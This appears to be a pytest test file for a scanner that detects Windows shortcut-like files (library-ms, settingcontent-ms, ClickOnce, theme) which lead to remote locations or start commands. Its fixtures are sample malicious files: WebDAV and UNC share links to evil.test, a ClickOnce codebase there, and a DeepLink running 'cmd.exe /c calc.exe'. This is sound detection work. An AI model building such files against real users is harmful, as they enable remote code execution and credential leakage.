"""Small files of Windows that lead elsewhere."""

import pytest

from files.scanners.made import ask, signs, urls
from unhook.files.scanners.launcher import SCANNER

LIBRARY = b"""<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library">
<searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\\\evil.test@80\\dav</url>
</simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>"""
SETTINGS = b"""<?xml version="1.0"?><PCSettings><SearchableContent><ApplicationInformation>
<DeepLink>%windir%\\system32\\cmd.exe /c calc.exe</DeepLink>
</ApplicationInformation></SearchableContent></PCSettings>"""
CLICK_ONCE = b"""<?xml version="1.0"?><asmv1:assembly xmlns="urn:schemas-microsoft-com:asm.v2"><deployment>
<deploymentProvider codebase="https://evil.test/setup.application"/></deployment></asmv1:assembly>"""
THEME = b"[Theme]\r\nDisplayName=x\r\n[VisualStyles]\r\nPath=\\\\evil.test\\s\\a.msstyles\r\n"


@pytest.mark.parametrize(("name", "data", "target"), [
    ("a.library-ms", LIBRARY, "\\\\evil.test@80\\dav"),
    ("a.application", CLICK_ONCE, "https://evil.test/setup.application"),
    ("a.theme", THEME, "\\\\evil.test\\s\\a.msstyles"),
])  # fmt: skip
def test_where_it_leads(name: str, data: bytes, target: str) -> None:
    found = ask(SCANNER, data, name)
    assert urls(found) == [target]
    assert signs(found)["shortcut-remote"] == target
    assert ("shortcut-share" in signs(found)) == target.startswith("\\")


def test_what_it_starts() -> None:
    found = ask(SCANNER, SETTINGS, "a.settingcontent-ms")
    assert signs(found) == {"shortcut-command": "%windir%\\system32\\cmd.exe /c calc.exe"}


def test_namespaces_lead_nowhere() -> None:
    data = b'<?xml version="1.0"?><a xmlns="http://schemas.microsoft.com/x" uri="http://schemas.microsoft.com/x"/>'
    assert not ask(SCANNER, data, "a.search-ms").references
